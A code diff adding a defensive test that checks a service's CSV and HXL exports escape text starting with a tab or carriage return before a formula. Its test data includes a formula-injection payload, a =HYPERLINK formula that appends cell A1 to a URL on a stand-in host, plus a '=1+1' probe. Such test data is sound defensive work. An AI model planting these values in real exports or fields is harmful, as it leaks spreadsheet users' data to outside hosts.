@@ -146,6 +146,29 @@ def test_names_that_look_like_formulas_reach_every_export_as_text_never_as_a_for
     assert leading == []
 
 
+BLANK_LED = ("\t=HYPERLINK(\"http://example.org/x?\"&A1,\"Ver informe\")", "\r=1+1 Olla Común")
+"""Texts starting with a tab or a carriage return before a formula: OWASP lists both first characters, defusedcsv neither."""
+
+
+def test_texts_starting_with_a_tab_or_a_carriage_return_reach_the_csv_exports_escaped_as_any_formula(client: TestClient) -> None:
+    """The exports are written from events: a text in one is not trimmed as the APIs trim what they take."""
+    events = [cloudevent("funding", 1, "PhaseOpened", "p1", at(0), phase_id="p1", code="F1", name=BLANK_LED[0],
+                         starts_on="2021-01-01", ends_on="2021-06-30", occurred_on="2021-01-01")]
+    for n, name in enumerate(BLANK_LED, start=1):
+        osv = f"osv-{n}"
+        events.append(cloudevent("registry", n, "OSVMapped", osv, at(n), osv_id=osv, name=name, district="San Juan de Lurigancho",
+                                 zone="Lima Este", mapped_on="2021-01-05", occurred_on="2021-01-05"))
+        reported = activity(f"act-{n}", n, 10 + n, "2021-03-01", ve_f=n)
+        events.append({**reported, "data": {**reported["data"], "osv_id": osv}})
+    application_of(client).readmodel.apply(events)
+
+    indicators = list(csv.reader(io.StringIO(client.get("/indicators/export.csv").content.decode("utf-8-sig"), newline="")))
+    assert {row[0] for row in indicators[1:]} == {"'" + BLANK_LED[0], "Total"}
+    hxl_sheet = list(csv.reader(io.StringIO(client.get("/activities/export.hxl.csv").content.decode("utf-8-sig"), newline="")))
+    assert {row[hxl_sheet[2].index("#org+name")] for row in hxl_sheet[3:]} == {"'" + name for name in BLANK_LED}
+    assert [field for row in indicators + hxl_sheet for field in row if field[:1] in ("\t", "\r")] == []
+
+
 def _number(text: str) -> bool:
     try:
         float(text)
